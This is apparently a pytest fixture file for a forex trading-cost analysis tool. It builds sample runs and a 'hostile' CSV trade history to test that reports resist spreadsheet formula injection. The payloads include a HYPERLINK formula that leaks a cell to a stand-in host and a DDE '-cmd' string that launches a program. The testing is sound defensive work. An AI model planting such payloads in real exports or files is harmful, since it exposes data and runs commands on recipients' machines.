"""Shared inputs of the report tests: the bundled sample under a rebate program, and hostile text."""

from __future__ import annotations

from pathlib import Path

import pytest

from fxcost.analysis import programs
from fxcost.analysis.engine import AnalysisSettings
from fxcost.pipeline import run

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "assets" / "sample-statement.htm"

#: Text a spreadsheet would run as a formula or command if it ever reached a cell unprotected.
HOSTILE = ('=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1", "-cmd|' /C calc'!A0", "@SUM(1+1)",
           "=1+2")

HOSTILE_CSV = (
    "Ticket,Open Time,Type,Size,Symbol,Open Price,Close Time,Close Price,Commission,Swap,Profit,Comment\n"
    '1,2024.01.05 10:22:00,buy,0.10,EURUSD,1.09120,2024.01.05 12:00:00,1.09300,-0.70,0.00,18.00,'
    '"=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")"\n'
    "2,2024.01.05 11:00:00,sell,1.00,USDJPY,144.500,2024.01.08 09:00:00,144.300,-7.00,-12.40,138.60,+1\n"
    "3,2024.01.09 09:00:00,buy,0.50,EURUSD,1.09500,2024.01.09 10:00:00,1.09400,-3.50,0.00,-50.00,"
    "-cmd|' /C calc'!A0\n"
    "4,2024.01.10 09:00:00,buy,0.20,@SUM(1+1),100.0,2024.01.10 10:00:00,101.0,-1.00,0.00,20.00,@SUM(1+1)\n"
    "5,2024.01.11 09:00:00,sell,0.30,=1+2,50.0,2024.01.11 10:00:00,49.0,-1.50,0.00,30.00,=1+2\n"
    "6,2024.01.04 09:00:00,balance,0,,,,,,,500.00,=HYPERLINK(\"http://example.invalid\")\n"
    "7,2024.01.12 09:00:00,balance,0,,,,,,,-100.00,-withdrawal\n"
)


def settings(*names: str) -> AnalysisSettings:
    s = AnalysisSettings()
    s.programs = [programs.load_named(n) for n in names]
    return s


@pytest.fixture(scope="session")
def sample_result():
    """The bundled MT4 sample (1,500 trades, rebate payouts in the balance rows) under two programs."""
    return run([SAMPLE], settings("example-cashback", "flat-8-per-lot"))


@pytest.fixture(scope="session")
def hostile_result(tmp_path_factory):
    """A CSV history whose symbols and comments are formula-like text."""
    path = tmp_path_factory.mktemp("hostile") / "trades.csv"
    path.write_text(HOSTILE_CSV, encoding="utf-8")
    return run([path], settings("example-cashback"))


@pytest.fixture(scope="session")
def two_accounts_result(tmp_path_factory):
    """Two generated MT4 client accounts under the bundled IB program."""
    from fxcost.samples.generate import generate

    folder = tmp_path_factory.mktemp("clients")
    paths = [folder / f"client{seed}.htm" for seed in (11, 12)]
    for seed, path in zip((11, 12), paths):
        generate(path, "mt4", 150, seed)
    return run(paths, settings("ib-tiered"))
